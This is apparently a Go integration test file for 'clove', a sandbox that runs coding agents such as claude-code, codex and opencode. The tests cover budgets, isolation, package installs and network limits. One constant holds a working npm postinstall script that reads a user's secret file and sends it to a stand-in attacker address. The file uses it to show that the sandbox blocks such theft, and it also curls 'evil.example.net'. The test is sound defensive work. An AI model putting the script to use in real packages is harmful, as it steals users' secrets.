//go:build root

package integration

import (
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"clove.run/clove/agent"
	"clove.run/clove/internal/testhost"
)

// userHome is an empty home that every user may read, and the caller's HOME until the test ends.
func userHome(t *testing.T) string {
	t.Helper()
	home := userDir(t, nil)
	t.Setenv("HOME", home)
	for _, key := range []string{"XDG_CONFIG_HOME", "XDG_DATA_HOME", "NVM_DIR", "npm_config_prefix", "NPM_CONFIG_PREFIX"} {
		t.Setenv(key, "") // an empty one counts as none; t.Setenv brings the former back
		os.Unsetenv(key)
	}
	return home
}

// write makes a file with its folders.
func write(t *testing.T, path, text string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), mode); err != nil {
		t.Fatal(err)
	}
}

// brokenProject is a small repository with a test that fails.
func brokenProject(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "clove-project")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, dir+"/add.py", "def add(a, b):\n    return a - b\n", 0o644)
	write(t, dir+"/test_add.py", "from add import add\nassert add(1, 2) == 3\n", 0o644)
	git := exec.Command("sh", "-ec", "git init -q; git add -A; git -c user.name=test -c user.email=test@example.com commit -qm Begin")
	git.Dir = dir
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return dir
}

// passes runs the repository's test on the host.
func passes(dir string) bool {
	test := exec.Command("python3", "-B", "test_add.py")
	test.Dir = dir
	return test.Run() == nil
}

// codingAgent is one that is shipped with clove, and how it is given a task without a terminal.
type codingAgent struct {
	name, program string
	model         string // the beginning of the names of its models
	file          string // of the program, in what install.sh has installed
	task          []string
}

var codingAgents = []codingAgent{
	{"claude-code", "claude", "claude", "@anthropic-ai/claude-code-linux-x64/claude", []string{"-p", "fix the failing test"}},
	{"codex", "codex", "codex", "@openai/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex", []string{"exec", "fix the failing test"}},
	{"opencode", "opencode", "opencode", "opencode-linux-x64/bin/opencode", []string{"run", "fix the failing test"}},
}

// The agents that are shipped with clove run unchanged, from where an installer has put them, on a
// repository with a failing test: they mend it, and clove apply writes that back. One whose model never
// ends gets an error when the next call does not fit in its budget, and gives up; one whose provider
// reports more than was reserved is ended. The control: without a model none mends anything.
func TestCodingAgentsCallModels(t *testing.T) {
	for _, a := range codingAgents {
		t.Run(a.name, func(t *testing.T) {
			h := newHost(t)
			scriptedModels(t, "agents", a.model+"-fix", a.model+"-endless", a.model+"-over")
			homeWith(t, a.file, a.program)
			dir := brokenProject(t)
			run := func(flags ...string) result {
				file := filepath.Join(t.TempDir(), "record.json")
				line := slices.Concat([]string{"run", "--result", file, "--timeout", "90s", "--workspace", dir, a.name}, flags, []string{"--"}, a.task)
				r := h.cloveWith("", line...)
				r.record = readRecord(t, file)
				return r
			}
			with := func(kind string, more ...string) result {
				return run(append(more, "--model="+a.model+"-"+kind, "--budget=cost=0.40usd")...)
			}
			r := with("fix", "--name=fix")
			if r.code != 0 || !strings.Contains(r.stderr, "the agent changed ") || !strings.Contains(r.stderr, "clove apply fix") {
				t.Errorf("exit %d, %s%s", r.code, r.stdout, r.stderr)
			}
			if passes(dir) {
				t.Error("the folder of the host is mended before clove apply")
			}
			if r := h.clove("apply", "fix", "--yes"); r.code != 0 || !passes(dir) {
				t.Errorf("apply: %s%s", r.stdout, r.stderr)
			}
			r = with("endless", "--at-end=refuse")
			if r.record.Status != agent.StatusExited || r.code == 0 || !strings.Contains(r.stdout+r.stderr, "of 0.4usd free") {
				t.Errorf("endless: %s, exit %d, %s%s", r.record.Status, r.code, r.stdout, r.stderr)
			}
			r = with("over")
			if l := r.record.Limit; r.record.Status != agent.StatusBudget || l == nil || l.Name != "cost_micros" || l.Value != 400_000 {
				t.Errorf("over: %s by %+v, %s%s", r.record.Status, l, r.stdout, r.stderr)
			}
			reset := exec.Command("git", "-C", dir, "checkout", "-q", ".")
			if err := reset.Run(); err != nil {
				t.Fatal(err)
			}
			r = run("--network=none", "--timeout=20s", "--name=control")
			if applied := h.clove("apply", "control", "--yes"); passes(dir) {
				t.Errorf("control: exit %d, %s%s, %s", r.code, r.stdout, r.stderr, applied.stderr)
			}
		})
	}
}

// homeWith makes a home with a coding agent's program in it: file is what was installed of it.
func homeWith(t *testing.T, file, program string) (home string) {
	t.Helper()
	home = userHome(t)
	if err := os.MkdirAll(home+"/.local/bin", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(installedClients(t, "agents"), file), filepath.Join(home, ".local/bin", program)); err != nil {
		t.Fatal(err)
	}
	return home
}

// tool makes a home with a program called tool, a shell, where installers put programs, and an agent of
// that name in the user's own folder of agents.
func tool(t *testing.T, more string) (home string) {
	t.Helper()
	home = userHome(t)
	shell, err := os.ReadFile("/bin/dash")
	if err != nil {
		t.Fatal(err)
	}
	write(t, home+"/.local/share/tool/versions/1.2", string(shell), 0o755)
	write(t, home+"/.local/share/tool/secret", "secret", 0o644)
	write(t, home+"/.local/bin/other", string(shell), 0o755)
	if err := os.Symlink(home+"/.local/share/tool/versions/1.2", home+"/.local/bin/tool"); err != nil {
		t.Fatal(err)
	}
	write(t, home+"/.config/clove/agents/helper.yaml", "version: 1\nname: helper\nprogram: tool\n"+more, 0o644)
	return home
}

// An agent's name runs it in the caller's folder, with the caller's program and nothing else of the home.
func TestAgentByItsName(t *testing.T) {
	h := newHost(t)
	home, dir := tool(t, "args: [-c]\nhome: kept\nlogin: [api.example.com]\nmodel_setup: claude-code\n"), brokenProject(t)
	t.Chdir(dir)
	r := h.clove("run", "--name=one", "helper", "--", "echo $0 $PWD; ls; echo new >new; find / -xdev -name secret -o -path '*/.local/bin/other' 2>/dev/null; echo kept >~/kept")
	if r.code != 0 || r.stdout != "/opt/clove/program/1.2 /workspace\nadd.py\ntest_add.py\n" {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
	for _, text := range []string{"helper.yaml shows its program " + home + "/.local/share/tool/versions/1.2; reaches api.example.com", "the agent changed 1 file in its copy of " + dir, "clove apply one"} {
		if !strings.Contains(r.stderr, text) {
			t.Errorf("not said: %s\n%s", text, r.stderr)
		}
	}
	// It cannot change its own program. The control: over a volume that may be written, it can.
	program := home + "/.local/share/tool/versions/1.2"
	size := func() int64 {
		info, err := os.Stat(program)
		if err != nil {
			t.Fatal(err)
		}
		return info.Size()
	}
	before := size()
	if r := h.clove("run", "--rm", "helper", "--", "echo changed >>$0"); r.code == 0 || size() != before {
		t.Errorf("its program was changed: %d, %s", r.code, r.stderr)
	}
	if r := h.clove("run", "--rm", "-v", filepath.Dir(program)+":/programs", "--", "sh", "-c", "echo changed >>/programs/1.2"); size() == before {
		t.Errorf("control: %d, %s", r.code, r.stderr)
	}
	// The same home again; with a model, the client is told so by a variable, and no name is reached.
	if r := h.clove("run", "--rm", "--model=echo", "helper", "--", "cat ~/kept; echo $ANTHROPIC_MODEL $ANTHROPIC_BASE_URL; ls -A"); r.stdout != "kept\necho http://127.0.0.1:8411\n.git\nadd.py\ntest_add.py\n" || strings.Contains(r.stderr, "reaches") {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
	// A file of that name is named by its path.
	write(t, dir+"/helper", "#!/bin/sh\necho file\n", 0o755)
	if r := h.clove("run", "--rm", "./helper"); r.stdout != "file\n" {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
	if r := h.clove("agents"); !strings.Contains(r.stdout, "helper") || !strings.Contains(r.stdout, home+"/.local/bin/tool") || !strings.Contains(r.stdout, "claude-code") {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
	// A home is not shown without its name.
	t.Chdir(home)
	if r := h.clove("run", "--rm", "helper", "--", "ls"); r.code != agent.ExitStartFailed || !strings.Contains(r.stderr, "is a home") || strings.Contains(r.stdout, "secret") {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
	if r := h.clove("run", "--rm", "--workspace=.", "helper", "--", "cat .local/share/tool/secret"); r.stdout != "secret" {
		t.Errorf("control: %d, %s%s", r.code, r.stdout, r.stderr)
	}
}

// A member runs an agent with the member's own program. One that the member may not read is not shown,
// also where a link of the member's leads to it.
func TestAgentOfAMember(t *testing.T) {
	d := newClovedFor(t, groupName)
	home := tool(t, "args: [-c]\n")
	for _, path := range []string{home, home + "/.local", home + "/.local/share", home + "/.local/share/tool", home + "/.local/share/tool/versions"} {
		if err := os.Chmod(path, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	dir := brokenProject(t)
	run := func() result {
		return d.as(memberUID, []uint32{groupID}, "run", "--rm", "--workspace", dir, "helper", "--", "echo $0; id -u")
	}
	if r := run(); r.stdout != "/opt/clove/program/1.2\n1000\n" {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
	if err := os.Chmod(home+"/.local/share/tool/versions", 0o700); err != nil {
		t.Fatal(err)
	}
	if r := run(); r.code != agent.ExitStartFailed || r.stdout != "" {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
}

// An agent's program is installed once, in a sandbox that reaches the registry alone. A registry that
// lies about its package's content installs nothing.
func TestAgentIsInstalledOnce(t *testing.T) {
	testhost.Tool(t, "npm")
	h := newHost(t)
	n := newInternet(t, h)
	n.serveClients(t)
	home, dir := userHome(t), brokenProject(t)
	write(t, home+"/.config/clove/agents/demo.yaml", "version: 1\nname: demo\nprogram: demo\ninstall: npm:demo@1.0.0\n", 0o644)
	t.Setenv("npm_config_registry", "http://api.example.com/npm/")
	t.Setenv("PATH", "/usr/bin:/bin") // with the machine's npm, which every sandbox sees
	run := func() result { return h.clove("run", "--rm", "--workspace", dir, "demo", "--", "x") }
	r := run()
	if r.code != 0 || r.stdout != reached+" x\n" || !strings.Contains(r.stderr, "installing demo@1.0.0") {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
	if r := run(); r.code != 0 || r.stdout != reached+" x\n" || strings.Contains(r.stderr, "installing") {
		t.Errorf("again: %d, %s%s", r.code, r.stdout, r.stderr)
	}
	programs := home + "/.local/share/clove/programs"
	if err := os.RemoveAll(programs); err != nil {
		t.Fatal(err)
	}
	n.web.HandleFunc("/lie/demo", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"name":"demo","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"demo","version":"1.0.0","dist":{"tarball":"http://%s/files/demo-1.0.0.tgz","integrity":"sha512-%s"}}}}`,
			r.Host, strings.Repeat("A", 86)+"==")
	})
	t.Setenv("npm_config_registry", "http://api.example.com/lie/")
	r = run()
	if left, _ := os.ReadDir(programs); r.code != agent.ExitStartFailed || r.stdout != "" || len(left) > 0 || !strings.Contains(r.stderr, "could not be installed") {
		t.Errorf("lie: %d, %s%s, %v", r.code, r.stdout, r.stderr, left)
	}
}

// hostile is what a package does when it is installed: it takes what it finds of its user, tells a server, and
// writes what came of that beside itself.
const hostile = `const fs = require("fs"), http = require("http"), seen = {}
try { seen.home = fs.readFileSync("SECRET", "utf8") } catch (e) { seen.home = e.code }
try { fs.writeFileSync("OUTSIDE", "written"); seen.wrote = true } catch (e) { seen.wrote = e.code }
const end = word => { seen.server = word; fs.writeFileSync(__dirname + "/seen.json", JSON.stringify(seen)) }
http.get({host: "` + evilAddress + `", path: "/drop?" + encodeURIComponent(seen.home), timeout: 3000}, r => { r.resume(); end(r.statusCode === 200 ? "told" : "refused") }).on("error", e => end(e.code)).on("timeout", function () { this.destroy() })
`

// The installation of a hostile package reads nothing of its user, reaches nothing but the registry, and
// writes nothing but its own folder. The control: the same script outside does all three.
func TestAHostilePackageIsInstalled(t *testing.T) {
	node := testhost.Tool(t, "node")
	testhost.Tool(t, "npm")
	h := newHost(t)
	n := newInternet(t, h)
	home, dir := userHome(t), brokenProject(t)
	write(t, home+"/.secret", "secret of the user", 0o644)
	outside := dir + "/outside"
	script := strings.NewReplacer("SECRET", home+"/.secret", "OUTSIDE", outside).Replace(hostile)
	n.servePackage("hostile", tarball(t, "package/package.json", `{"name":"hostile","version":"1.0.0","bin":{"hostile":"hostile.js"},"scripts":{"postinstall":"node install.js"}}`,
		"package/hostile.js", "#!/usr/bin/env node\nconsole.log('"+reached+"')\n", "package/install.js", script))
	write(t, home+"/.config/clove/agents/hostile.yaml", "version: 1\nname: hostile\nprogram: hostile\ninstall: npm:hostile@1.0.0\n", 0o644)
	t.Setenv("npm_config_registry", "http://api.example.com/npm/")
	t.Setenv("PATH", "/usr/bin:/bin")
	seen := func(at string) string {
		text, err := os.ReadFile(at + "/seen.json")
		if err != nil {
			t.Errorf("the script has not run: %v", err)
		}
		return string(text)
	}
	r := h.clove("run", "--rm", "--workspace", dir, "hostile")
	if r.code != 0 || r.stdout != reached+"\n" {
		t.Errorf("%d, %s%s", r.code, r.stdout, r.stderr)
	}
	if got := seen(home + "/.local/share/clove/programs/hostile@1.0.0/node_modules/hostile"); strings.Contains(got, "secret of") || strings.Contains(got, "told") || strings.Contains(got, "true") {
		t.Errorf("%s", got)
	}
	if _, err := os.Stat(outside); err == nil || n.visited("tcp "+evilAddress+":80") {
		t.Errorf("it wrote outside (%v), or told a server", err)
	}
	control := t.TempDir()
	write(t, control+"/install.js", script, 0o644)
	if out, err := n.outside(node, control+"/install.js"); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if got := seen(control); !strings.Contains(got, "secret of the user") || !strings.Contains(got, "told") || !n.visited("tcp "+evilAddress+":80") {
		t.Errorf("control: %s", got)
	}
	if _, err := os.Stat(outside); err != nil {
		t.Errorf("control: %v", err)
	}
}

// A run without a model reaches the servers of the agent's login and no other; one with a model reaches none.
func TestTheLoginOfAnAgent(t *testing.T) {
	testhost.Tool(t, "curl")
	h := newHost(t)
	newInternet(t, h)
	tool(t, "args: [-c]\nlogin: [api.example.com]\n")
	dir := brokenProject(t)
	const script = "for site in api.example.com evil.example.net; do curl -s -m 5 http://$site/ | grep -o ^" + reached + " && echo $site; done; true"
	for _, row := range []struct {
		flags []string
		wants string
	}{{nil, reached + "\napi.example.com\n"}, {[]string{"--model=echo"}, ""}, {[]string{"--allow=evil.example.net"}, reached + "\napi.example.com\n" + reached + "\nevil.example.net\n"}} {
		line := append(append([]string{"run", "--rm", "--workspace", dir}, row.flags...), "helper", "--", script)
		if r := h.clove(line...); r.stdout != row.wants {
			t.Errorf("%q: %d, %q, %s", row.flags, r.code, r.stdout, r.stderr)
		}
	}
}
